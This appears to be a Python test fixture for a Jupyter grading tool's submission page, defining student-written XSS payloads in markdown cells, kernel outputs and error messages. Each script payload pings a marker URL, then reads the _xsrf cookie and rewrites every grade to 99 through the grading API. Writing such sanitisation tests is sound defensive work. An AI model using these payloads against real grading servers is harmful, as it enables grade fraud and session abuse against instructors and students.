"""Student-made HTML that runs script (or loads a URL) wherever it is rendered unsanitised.

Every payload that runs script requests ``/xss/<name>`` on the page's own server (a marker a browser test can
see) and then does what a real attack did: it reads formgrader's ``_xsrf`` cookie and sets every grade of the
submission on the page to 99 through formgrader's API. The CSS payloads request their marker without script.
"""
from __future__ import annotations

MARKER = "/xss/"

# On a formgrader submission page `base_url` and `submission_id` are globals of formgrader's own script.
_ATTACK = ("var t=(document.cookie.match(/_xsrf=([^;]*)/)||[])[1]||'';"
           "fetch(base_url+'/api/grades?submission_id='+submission_id).then(function(r){return r.json()})"
           ".then(function(gs){gs.forEach(function(g){fetch(base_url+'/api/grade/'+g.id,{method:'PUT',"
           "headers:{'X-XSRFToken':decodeURIComponent(t)},"
           "body:JSON.stringify({manual_score:99,extra_credit:99})})})})")


def js(name: str) -> str:
    """Script that marks ``name`` as run, then rewrites the page's grades (single quotes only)."""
    return f"fetch('{MARKER}{name}');{_ATTACK}"


# Raw HTML in markdown (a written answer or a markdown cell the student added), one block each.
MARKDOWN = {
    "md-img-onerror": f'<img src=x onerror="{js("md-img-onerror")}">',
    "md-script": f"<script>{js('md-script')}</script>",
    "md-javascript-link": f"[XSS-LINK-MD](javascript:fetch('{MARKER}md-javascript-link'))",
    "html-javascript-link": f"<a href=\"javascript:{js('html-javascript-link')}\">XSS-LINK-HTML</a>",
    "svg-script": f"<svg><script>{js('svg-script')}</script></svg>",
    "svg-onload": f'<svg onload="{js("svg-onload")}"><circle r="4"/></svg>',
    "iframe-srcdoc": f"<iframe srcdoc=\"<script>fetch('{MARKER}iframe-srcdoc')</script>\"></iframe>",
    "iframe-javascript": f"<iframe src=\"javascript:fetch('{MARKER}iframe-javascript')\"></iframe>",
    "css-style-attr": f'<div style="background-image:url({MARKER}css-style-attr)">styled</div>',
    "css-style-tag": f"<style>body{{background-image:url({MARKER}css-style-tag)}}</style>",
}


def markdown_answer() -> str:
    """A written answer with honest text, math, and every markdown payload."""
    return ("Because $(-x)^3 = -(x^3)$: **the sign comes out**.\n\n"
            + "\n\n".join(MARKDOWN.values()) + "\n\nThe end of the answer.")


# Outputs the student's kernel publishes, as the code of a cell the student added.
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="' + js("out-svg") + '"></svg>'
_WIDGET = {"model_id": "x", "version_major": 2, "version_minor": 0}
OUTPUTS_CODE = f"""from IPython.display import HTML, Javascript, Markdown, display
display(Javascript({js('out-javascript')!r}))
display(HTML({'<img src=x onerror="' + js('out-html') + '">'!r}))
display(Markdown({'<img src=x onerror="' + js('out-markdown') + '">'!r}))
display({{'image/svg+xml': {_SVG!r}, 'text/plain': 'an svg'}}, raw=True)
display({{'application/vnd.jupyter.widget-view+json': {_WIDGET!r}, 'text/plain': 'a widget'}}, raw=True)
print({'<img src=x onerror="' + js('out-stream') + '">'!r})
print('outputs published')
"""

# Exception text the kernel reports for a student's cell (the cell fails; the notebook goes on).
ERROR_CODE = "raise ValueError(" + repr('<img src=x onerror="' + js("out-error") + '">') + ")"
